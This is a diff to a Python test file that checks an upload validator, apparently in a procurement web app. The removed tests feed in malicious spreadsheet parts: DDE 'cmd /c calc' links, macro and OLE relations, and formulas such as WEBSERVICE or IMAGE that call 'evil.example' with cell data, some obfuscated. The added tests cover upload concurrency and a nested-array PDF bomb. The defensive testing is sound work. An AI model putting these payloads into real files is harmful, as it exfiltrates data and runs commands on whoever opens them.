@@ -1,16 +1,18 @@
 """Files: what is sent under a false name or name, too large, folded upon itself, or meant to be opened by others.
 
 Elsewhere: each kind examined by its content, active PDF, pictures drawn anew, bombs of PDF and XML, payslips, names
-(tests/core/test_uploads.py); files that bomb once opened (tests/clauses/decp/test_files.py).
+(tests/core/test_uploads.py); workbooks (test_workbooks.py); files that bomb once opened (tests/clauses/decp/test_files.py).
 """
 
 import io
-from collections.abc import Mapping
+from collections.abc import Iterator
+from contextlib import ExitStack, contextmanager
 from datetime import datetime, timedelta
 from pathlib import Path
+from queue import Queue
+from threading import Event, Thread
 from typing import Any
 from uuid import uuid4
-from zipfile import ZipFile
 
 import pikepdf
 import pytest
@@ -308,113 +310,6 @@ def test_names_of_people_that_are_not_names(
     assert "\x00" not in page.said
 
 
-RELATION = '<Relationships><Relationship Id="r" Type="http://x/relationships/{kind}" Target="{to}" {mode}/></Relationships>'
-OUTSIDE = RELATION.format(kind="image", to="file:///evil.example/a.png", mode='TargetMode="External"')
-COMMAND = RELATION.format(kind="externalLink", to="autre/part1.xml", mode="")
-LIVE_SHEETS = {
-    "a command under another name": {
-        "xl/_rels/workbook.xml.rels": COMMAND,
-        "xl/autre/part1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
-    },
-    "its kind, said otherwise": {"xl/_rels/workbook.xml.rels": COMMAND.replace("L", "&#76;")},
-    "an object under another name": {
-        "xl/worksheets/_rels/sheet1.xml.rels": RELATION.format(
-            kind="oleObject", to="../autre/o.bin", mode=""
-        ),
-    },
-    "macros under another name": {
-        "xl/_rels/workbook.xml.rels": RELATION.format(kind="vbaProject", to="autre.bin", mode=""),
-    },
-    "relations in another writing": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE.encode("utf-16-be")},
-    "a picture from elsewhere": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE},
-    "the same, said otherwise": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE.replace("E", "&#69;", 1)},
-    "data from elsewhere": {"xl/connections.xml": "<connections/>"},
-    "old macros": {"xl/macrosheets/sheet1.xml": "<x/>"},
-    "buttons": {"customUI/customUI.xml": "<x/>"},
-    "relations that nobody can read": {"xl/_rels/x.rels": b"\xff\xfe<\x00"},
-    "relations without end": {"xl/_rels/x.rels": b" " * (2 << 20)},
-}
-
-
-@pytest.mark.parametrize("parts", LIVE_SHEETS.values(), ids=LIVE_SHEETS.keys())
-def test_to_send_a_workbook_that_does_something_as_it_opens(
-    world: World, browser: Attacker, parts: dict[str, str | bytes]
-) -> None:
-    """What it fetches tells where it was opened, and by whom: links that one clicks are all that it may hold."""
-    link = RELATION.format(kind="hyperlink", to="https://www.example.org", mode='TargetMode="External"')
-    books: dict[str, Mapping[str, str | bytes]] = {
-        "plain": {"xl/worksheets/_rels/sheet1.xml.rels": link},
-        "live": parts,
-    }
-    kept = StoredFile.objects.count()
-    address = reverse("procurement:ask-advice-on", args=[world.own.draft.pk])
-    AdviceRequest.objects.all().delete()
-    browser.acting(world.cast.buyer)
-    for name, extra in reversed(books.items()):
-        paper = SimpleUploadedFile("besoin.xlsx", workbook_with(extra))
-        answer = browser.post(address, {"submission": str(uuid4()), "question": name, "piece_1": paper})
-        assert answer.status_code == (302 if name == "plain" else 422), answer.said
-    assert StoredFile.objects.count() == kept + 1
-
-
-FETCHING = {
-    "an address": '<f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f>',
-    "a picture": '<f>IF(1,_xlfn.IMAGE("http://evil.example/a.png"),"")</f>',
-    "a command": "<f>cmd|'/c calc'!A0</f>",
-    "in pieces": '<f>WEB<!-- x -->SERV&#73;CE<![CDATA[(]]>"http://evil.example")</f>',
-    "another prefix": '<x:f xmlns:x="y">webservice ("http://evil.example")</x:f>',
-    "a name": '<definedName name="n">RTD("a","b","c")</definedName>',
-}
-HARMLESS = '<f>SUM(A1:A9)&amp;"IMAGE(|"&amp;\'Image (2)\'!B1</f><t>=WEBSERVICE("http://evil.example")</t>'
-
-
-@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/autre.bin"])
-@pytest.mark.parametrize("written", FETCHING.values(), ids=FETCHING.keys())
-def test_to_send_a_workbook_whose_formula_asks_something_of_elsewhere(written: str, part: str) -> None:
-    """Computed at whoever opens it, it tells where and by whom, with the cells beside it; words in a cell do nothing."""
-    for encoding in ("utf-8", "utf-16"):
-        with pytest.raises(uploads.Unwelcome):
-            uploads.examined(workbook_with({part: f"<c>{written}</c>".encode(encoding)}), kind="xlsx")
-    plain = workbook_with({part: f"<c>{HARMLESS}</c>", "xl/media/a.png": b"\x89PNG\r\n<f>RTD("})
-    assert uploads.examined(plain, kind="xlsx") == plain
-
-
-WRITTEN_OTHERWISE = {
-    "of Windows": '<?xml version="1.0" encoding="windows-1252"?><c>é{}</c>'.encode("cp1252"),
-    "that says to be another": b'<?xml version="1.0" encoding="utf-7"?><c>{}</c>',
-    "of its own words": b"<!--"
-    + b"x" * 5000
-    + b'--><!DOCTYPE c [<!ENTITY w "WEBSERVICE(">]><c><f>&w;"http://evil.example")</f></c>',
-    "that no reader knows": "<c>{}</c>".encode("utf-32"),
-    "of a prefix that nothing binds": b"<c><x:f>1</x:f>{}</c>",
-}
-
-
-@pytest.mark.parametrize("written", WRITTEN_OTHERWISE.values(), ids=WRITTEN_OTHERWISE.keys())
-def test_to_send_a_workbook_whose_formula_is_in_another_writing(written: bytes) -> None:
-    """In letters that a reader of spreadsheets knows, or behind a word that the part defines far from its beginning."""
-    part = written.replace(b"{}", b'<f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f>')
-    with pytest.raises(uploads.Unwelcome):
-        uploads.examined(workbook_with({"xl/worksheets/sheet1.xml": part}), kind="xlsx")
-
-
-def test_to_send_a_workbook_that_holds_one_part_twice() -> None:
-    """Which of the two a spreadsheet opens, nobody knows: names are the same whatever their capitals."""
-    with pytest.raises(uploads.Unwelcome):
-        uploads.examined(workbook_with({"xl/a.xml": "<x/>", "xl/A.xml": "<x/>"}), kind="xlsx")
-
-
-def workbook_with(parts: Mapping[str, str | bytes]) -> bytes:
-    """Return a workbook with parts of one's own."""
-    written = io.BytesIO()
-    with ZipFile(written, "w") as archive:
-        for name in ("[Content_Types].xml", "xl/workbook.xml"):
-            archive.writestr(name, "<x/>")
-        for name, content in parts.items():
-            archive.writestr(name, content)
-    return written.getvalue()
-
-
 @pytest.mark.parametrize("typed", ["\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\x0b"])
 @pytest.mark.parametrize("form", ["docx", "pdf"])
 def test_to_have_a_document_break_by_a_character_that_no_file_may_hold(
@@ -445,9 +340,79 @@ def test_to_make_everybody_wait_by_files_sent_together(monkeypatch: pytest.Monke
     """What cannot be examined at once is refused in words: the server keeps answering pages."""
     monkeypatch.setattr(uploads, "PATIENCE", 0)
     content = pdf("x")
-    with uploads.EXAMINED_AT_ONCE, uploads.EXAMINED_AT_ONCE, pytest.raises(Refused, match="en même temps"):
-        uploads.examined(content, kind="pdf")
-    assert uploads.examined(content, kind="pdf") == content
+    with ExitStack() as others:
+        for person in range(uploads.EXAMINED_AT_ONCE):
+            others.enter_context(examining_for(person))
+        with uploads.sent_by(99), pytest.raises(Refused, match="en même temps"):
+            uploads.examined(content, kind="pdf")
+    with uploads.sent_by(99):
+        assert uploads.examined(content, kind="pdf") == content
+
+
+@contextmanager
+def examining_for(person: int) -> Iterator[None]:
+    """Hold a place for a file of somebody, as if it were being examined."""
+    with uploads.sent_by(person), uploads.place("pdf"):
+        yield
+
+
+def test_to_hold_every_place_by_the_files_of_one_person(
+    world: World, browser: Attacker, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The second file of somebody waits for the first, whatever the window or the hat; those of others pass."""
+    monkeypatch.setattr(uploads, "PATIENCE", 0)
+    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
+    browser.acting(world.cast.buyer)
+    buyer = int(browser.session["_auth_user_id"])
+
+    def asked() -> Any:
+        form = {"submission": str(uuid4()), "piece_1": SimpleUploadedFile("plan.pdf", pdf("Plan"))}
+        return browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
+
+    with examining_for(buyer):
+        answer = asked()
+        assert (answer.status_code, "en même temps" in answer.said) == (422, True)
+    with examining_for(buyer + 1):
+        assert asked().status_code == 302
+
+
+def test_the_second_file_of_a_person_waits_for_the_first_and_another_person_does_not() -> None:
+    """Three at the same instant: those of one person never overlap, and the other place is taken meanwhile."""
+    first_in, other_in = Event(), Event()
+    told: Queue[str] = Queue()
+
+    def first() -> None:
+        with examining_for(1):
+            told.put("first in")
+            first_in.set()
+            assert other_in.wait(20)
+            told.put("first out")
+
+    def second() -> None:
+        assert first_in.wait(20)
+        with examining_for(1):
+            told.put("second in")
+
+    def other() -> None:
+        assert first_in.wait(20)
+        with examining_for(2):
+            told.put("other in")
+            other_in.set()
+
+    threads = [Thread(target=one) for one in (first, second, other)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert [told.get_nowait() for _ in threads] + [told.get_nowait()] == [
+        "first in", "other in", "first out", "second in",
+    ]  # fmt: skip
+
+
+def test_a_visitor_sends_no_file_however_small(world: World) -> None:
+    """Nobody is there to count: it stopped the server."""
+    paper = SimpleUploadedFile("a.pdf", pdf("x"))
+    assert Client().post(reverse("account_login"), {"login": "x", "paper": paper}).status_code == 413
 
 
 def written(book: pikepdf.Pdf) -> bytes:
@@ -501,3 +466,14 @@ LIVE = {
 def test_to_send_a_document_that_acts_deep_down_or_carries_a_file(content: bytes) -> None:
     with pytest.raises(uploads.Unwelcome):
         uploads.examined(content, kind="pdf")
+
+
+def test_to_keep_a_place_busy_by_a_document_of_a_million_lists() -> None:
+    """Ten kilobytes that took five seconds and more."""
+    book = pikepdf.new()
+    book.add_blank_page()
+    book.Root.X = pikepdf.Object.parse(b"[" + b"[]" * 2_100_000 + b"]")
+    content = io.BytesIO()
+    book.save(content, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    with pytest.raises(uploads.Unwelcome, match="trop long à lire"):
+        uploads.examined(content.getvalue(), kind="pdf")
